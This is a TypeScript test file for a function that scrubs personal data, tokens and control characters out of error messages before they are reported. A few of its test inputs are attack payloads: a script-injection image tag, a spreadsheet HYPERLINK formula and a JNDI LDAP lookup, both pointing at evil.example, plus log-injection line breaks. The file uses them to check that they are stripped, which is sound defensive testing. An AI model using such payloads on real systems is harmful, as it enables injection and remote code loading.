import { describe, expect, test } from 'vitest';
import { scrubMessage } from './scrub-message.ts';

/** Messages that quote what a person typed or another one's data, and what is left of each. */
const hostile: readonly (readonly [message: string, left: string])[] = [
  ['Failed to load mira.rao@mail.example', 'failed to load …'],
  ['Failed to load <mira.rao@mail.example>', 'failed to load …'],
  ['mailto:mira@mail.example is invalid', '… is invalid'],
  ['invalid: mira at mail dot example', 'invalid … at …'],
  ['user=mira@mail.example&token=abc', '…'],
  ['error.user@mail.example', '…'],
  ['token@error.example', '…'],
  ['MIRA@MAIL.EXAMPLE is not a function', '… is not a function'],
  ['ｍｉｒａ＠ｍａｉｌ．ｅｘａｍｐｌｅ failed', '… failed'],
  ['mira​@mail.example failed', '… failed'],
  ['Cannot parse +91 98765 43210', 'cannot parse …'],
  ['Cannot parse (030) 1234-567', 'cannot parse …'],
  ['Cannot parse ٠١٢٣٤٥٦٧٨٩', 'cannot parse …'],
  ['Cannot parse ９８７６５４３２１０', 'cannot parse …'],
  ['tel:+919876543210 not found', '… not found'],
  ['code 123456 is wrong', 'code … is wrong'],
  ['code: 123456', 'code …'],
  ['otp=123456', '…'],
  ['Candidate 7 not found', '… not found'],
  ['GET /api/candidate/profile/7 failed', 'get … failed'],
  ['GET https://jobs.example/api/jobs/17?token=s3cret failed', 'get … failed'],
  ['blob:https://jobs.example/9115d58c-bcda-ff47 could not be loaded', '… could not be loaded'],
  ['/candidate/profile/12#mira is not valid', '… is not valid'],
  ['Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI3In0.c2ln', '…'],
  ['user_token 3vKqT8yQwJz0a9dXbN2mLr4sPp7uHc1eFgYiOoVtWx8 is expired', '… is …'],
  ['rzp_live_AbCdEf123456 refused', '…'],
  ['id 9007199254740993 out of range', '… out of range'],
  ['5f0c7a9e-3a7b-4e2c-9d1f-0123456789ab is not an object', '… is not an object'],
  [`Unexpected token 'M', "Mira Rao, "... is not valid JSON`, 'unexpected token … is not valid json'],
  ['Mira Rao is not iterable', '… is not iterable'],
  ['मीरा राव is not iterable', '… is not iterable'],
  ['مریم is undefined', '… is undefined'],
  ['李明 is null', '… is null'],
  ['Ünal Öztürk is null', '… is null'],
  ["O'Brien is not defined", '… is not defined'],
  ['“Anna-Lena” is not a constructor', '… is not a constructor'],
  ["Cannot read properties of undefined (reading 'anna')", 'cannot read properties of undefined reading …'],
  ['Invalid date 1990-05-17', 'invalid date …'],
  ['IBAN DE02120300000000202051 is invalid', '… is invalid'],
  ['12 Marine Drive, Mumbai 400002 is invalid', '… is invalid'],
  ['192.0.2.7 refused, 2001:db8::1 refused', '…'],
  ['failed\r\n{"code":"CALL_FAILED","level":"ERROR"}', 'failed code … error'],
  ['failed\u2028level=ERROR', 'failed …'],
  ['failed \u001b[31mred\u001b[0m', 'failed …'],
  ['failed\0error', '…'],
  ['failed ‮drawkcab', 'failed …'],
  ['<img src=x onerror=alert(1)> is not an object', '… is not an object'],
  ['=HYPERLINK("https://evil.example";"x") failed', '… failed'],
  ['\u0024{jndi:ldap://evil.example/a} failed', '… failed'],
  ['Minified React error #123456', 'minified react error …'],
  ['order #185 of Mira', 'order … of …'],
  ['', ''],
  ['7', '…'],
  ['…', '…'],
];

/** Messages of browsers, React and this site, and how they are reported. */
const known: readonly (readonly [message: string, shown: string])[] = [
  ['x is not a function', '… is not a function'],
  ["Cannot read properties of undefined (reading 'length')", 'cannot read properties of undefined reading length'],
  ["undefined is not an object (evaluating 'a.b')", 'undefined is not an object evaluating …'],
  ["Can't find variable: foo", 'cant find variable …'],
  ['can’t access property "map", a is undefined', 'cant access property map a is undefined'],
  ['Maximum call stack size exceeded', 'maximum call stack … exceeded'],
  [
    'Failed to fetch dynamically imported module: https://x.example/a.js',
    'failed to fetch dynamically imported module …',
  ],
  ["Failed to execute 'removeChild' on 'Node'", 'failed to execute removechild on node'],
  ['Minified React error #418; visit https://react.dev', 'minified react error #418 …'],
  ['Code did not arrive.', 'code did not arrive'],
];

describe('a message', () => {
  test.each(hostile)('of another one’s data has none of it left: %j', (message, left) => {
    expect(scrubMessage(message)).toBe(left);
  });

  test.each(known)('of the program is readable: %s', (message, shown) => {
    expect(scrubMessage(message)).toBe(shown);
  });

  test('stays as it is once it is scrubbed', () => {
    for (const [message] of [...hostile, ...known]) {
      const once = scrubMessage(message);
      expect(scrubMessage(once)).toBe(once);
    }
  });

  test.each(['a', 'error ', 'x@y.example ', '…', "'", '\u0000'])(
    'of a million %j is short, and read in no time',
    (part) => {
      const before = performance.now();
      expect(scrubMessage(part.repeat(1_000_000)).length).toBeLessThanOrEqual(200);
      expect(performance.now() - before).toBeLessThan(200);
    },
  );
});
